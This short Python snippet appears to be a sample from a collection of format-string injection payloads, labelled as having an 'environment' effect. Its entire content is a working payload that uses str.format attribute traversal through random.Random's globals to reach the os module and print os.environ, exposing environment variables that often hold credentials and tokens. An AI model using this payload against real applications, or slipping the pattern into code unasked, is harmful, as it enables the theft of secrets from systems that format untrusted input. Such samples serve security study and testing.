# source: own
# effect: environment

import random


class Template(str):
    pass


print(Template("{0.seed.__globals__[_os].environ}").format(random.Random))
